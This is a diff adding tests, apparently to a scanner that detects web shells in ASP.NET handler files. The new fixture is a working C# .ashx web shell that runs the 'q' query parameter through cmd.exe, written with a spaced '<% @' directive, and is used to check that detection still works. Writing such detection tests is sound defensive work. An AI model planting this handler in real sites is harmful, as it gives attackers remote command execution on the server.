@@ -139,3 +139,28 @@ def test_pages_with_their_own_code_and_library_handler_stubs_stay_quiet() -> Non
         ("progress.ashx", '<%@ WebHandler Language="C#" Class="Brettle.Web.NeatUpload.ProgressJsonHandler" %>'),
     ):
         assert medium_or_above(run(name, code)) == [], name
+
+
+# ----------------------------------------------------------------------------- directives spelled `<% @ ... %>`
+
+SPACED_HANDLER = """<% @ webhandler language="C#" class="H" %>
+using System.Web;
+public class H : IHttpHandler {
+    public bool IsReusable { get { return true; } }
+    public void ProcessRequest(HttpContext ctx) {
+        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + ctx.Request.QueryString["q"]);
+        psi.UseShellExecute = false;
+        System.Diagnostics.Process.Start(psi);
+    }
+}"""
+
+
+def test_a_directive_with_space_before_its_at_sign_is_a_directive() -> None:
+    report = run("h.ashx", SPACED_HANDLER)
+    assert PROCESS in medium_or_above(report)
+    assert "query parameter 'q'" in chain_of(report, PROCESS)
+
+
+def test_a_spaced_directive_handler_with_a_fixed_command_stays_quiet() -> None:
+    code = SPACED_HANDLER.replace('"/c " + ctx.Request.QueryString["q"]', '"/c ver"')
+    assert medium_or_above(run("h-benign.ashx", code)) == []
